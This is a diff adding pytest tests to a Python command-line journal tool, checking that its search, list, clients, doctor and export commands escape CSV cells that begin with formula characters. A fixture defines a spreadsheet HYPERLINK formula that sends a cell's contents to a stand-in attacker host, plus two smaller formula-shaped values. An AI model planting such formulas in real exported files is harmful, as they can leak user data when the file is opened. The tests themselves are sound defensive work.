@@ -169,3 +169,89 @@ def test_the_readme_lists_the_keys_each_command_writes(run):
         assert list(written[0]) == documented[command], command
         assert next(csv.reader(io.StringIO(run(*args, "-f", "csv").stdout))) == documented[command], command
     assert list(json.loads(run("show", "1", "-f", "json").stdout)) == documented["show"]
+
+
+# -- every CSV, one escaping ---------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&F2,"Click here")'
+
+
+def csv_rows(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+def assert_inert(table: list[list[str]]) -> None:
+    from alliance_cli.ui.formats import RISKY_FIRST
+
+    cells = [cell for row in table[1:] for cell in row]
+    assert cells and not [c for c in cells if c[:1] in RISKY_FIRST]
+
+
+@pytest.fixture
+def formula_journal(run, db_path):
+    """A formula-shaped answer, as anyone could type it, and a client code and a modality that
+    could only come from a hostile or damaged journal (they are validated when written)."""
+    run("log", "-c", "C-1", "-d", "2026-11-02", *set_flags({**FULL_ANSWERS, "went_well": FORMULA}))
+    run("log", "-c", "C-2", "-d", "2026-11-03", *set_flags({**FULL_ANSWERS, "went_well": "A plain evil example."}))
+    import sqlite3
+
+    with sqlite3.connect(db_path) as conn:
+        conn.execute("UPDATE sessions SET client = '@SUM(1,1)', modality = '-2+3' WHERE id = 2")
+    return db_path
+
+
+def test_search_csv_neutralises_a_formula_in_an_answer(run, formula_journal):
+    from alliance_cli.ui.formats import unescape_cell
+
+    result = run("search", "evil", "-f", "csv")
+    assert result.exit_code == 0, result.stderr
+    table = csv_rows(result.stdout)
+    assert_inert(table)
+    by_id = {row[0]: dict(zip(table[0], row, strict=True)) for row in table[1:]}
+    snippet = by_id["1"]["snippet"]
+    assert snippet.startswith("'=HYPERLINK(") and unescape_cell(snippet).replace("**", "") == FORMULA
+    assert by_id["2"]["snippet"] == "A plain **evil** example."  # text without a formula stays as it is
+    assert by_id["2"]["client"] == "'@SUM(1,1)" and by_id["1"]["client"] == "C-1"
+    assert json.loads(run("search", "evil", "-f", "json").stdout)[1]["snippet"].startswith("=HYPERLINK(")
+
+
+def test_list_and_clients_csv_escape_text_and_leave_numbers(run, formula_journal):
+    listed = csv_rows(run("list", "-f", "csv").stdout)
+    assert_inert(listed)
+    rows = [dict(zip(listed[0], row, strict=True)) for row in listed[1:]]
+    assert [(r["client"], r["modality"], r["empathy"], r["date"]) for r in rows] == [
+        ("'@SUM(1,1)", "'-2+3", "7", "2026-11-03"),
+        ("C-1", "in person", "7", "2026-11-02"),
+    ]
+    clients = csv_rows(run("clients", "--all", "-f", "csv").stdout)
+    assert_inert(clients)
+    assert sorted(row[0] for row in clients[1:]) == ["'@SUM(1,1)", "C-1"]
+    assert all(row[1] == "1" for row in clients[1:])  # numbers as they are
+
+
+def test_doctor_csv_escapes_its_messages(run, monkeypatch):
+    from alliance_cli.app import doctor
+
+    monkeypatch.setattr(doctor, "run_checks", lambda *a, **k: [doctor.Finding("note", "drafts", FORMULA)])
+    table = csv_rows(run("doctor", "-f", "csv").stdout)
+    assert table == [["level", "check", "message"], ["note", "drafts", "'" + FORMULA]]
+
+
+@pytest.mark.parametrize("shape", ["long", "wide"])
+def test_export_csv_escapes_the_formula_in_either_shape(run, formula_journal, shape):
+    table = csv_rows(run("export", "--shape", shape).stdout)
+    cells = [cell for row in table[1:] for cell in row]
+    assert "'" + FORMULA in cells and FORMULA not in cells
+    assert "A plain evil example." in cells
+
+
+def test_only_ui_formats_writes_csv():
+    """One escaping for every CSV: no other module makes a CSV writer or writes rows itself."""
+    from conftest import REPO
+
+    writers = {
+        str(path.relative_to(REPO / "src" / "alliance_cli"))
+        for path in (REPO / "src" / "alliance_cli").rglob("*.py")
+        if "csv.writer" in path.read_text() or "DictWriter" in path.read_text()
+    }
+    assert writers == {"ui/formats.py"}
